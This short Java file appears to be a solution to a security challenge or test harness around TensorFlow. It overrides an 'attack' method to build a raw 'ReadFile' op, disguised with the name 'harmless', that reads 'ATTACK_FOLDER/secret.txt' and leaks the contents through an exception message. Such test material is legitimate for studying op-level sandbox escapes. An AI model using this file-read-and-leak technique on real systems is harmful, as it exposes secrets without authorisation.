import org.tensorflow.op.Ops;
import org.tensorflow.types.TString;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        throw new IllegalStateException(tf.scope()
                .opBuilder("ReadFile", "harmless")
                .addInput(tf.constant("ATTACK_FOLDER/secret.txt").asOutput())
                .build()
                .<TString>output(0)
                .asTensor()
                .getObject());
    }
}
